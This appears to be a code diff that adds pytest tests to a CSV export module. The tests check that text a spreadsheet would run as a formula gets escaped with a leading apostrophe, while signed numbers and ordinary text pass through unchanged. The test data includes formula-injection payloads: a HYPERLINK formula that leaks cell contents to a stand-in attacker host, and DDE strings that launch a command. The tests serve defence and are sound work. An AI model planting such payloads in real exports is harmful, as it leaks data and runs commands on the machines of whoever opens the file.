@@ -47,3 +47,25 @@ def test_ocds_json_writes_decimal_numbers_exactly() -> None:
 def test_ocds_json_refuses_floats_and_non_numbers(bad: object) -> None:
     with pytest.raises((TypeError, ValueError)):
         ocds.dumps({"amount": bad})
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Winter tents")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(text: str) -> None:
+    rows = csv_rows(sheets.to_csv(HEADER, [[text, Decimal("1.00"), 1]]))
+    assert rows[0]["name"] == "'" + text
+
+
+@pytest.mark.parametrize("text", ["-1,250.00", "+3", "-7", "Winter tents (=2 per lot)"])
+def test_csv_leaves_signed_numbers_and_ordinary_text_as_they_are(text: str) -> None:
+    rows = csv_rows(sheets.to_csv(HEADER, [[text, Decimal("-5.00"), -2]]))
+    assert rows[0] == {"name": text, "amount": "-5.00", "count": "-2"}
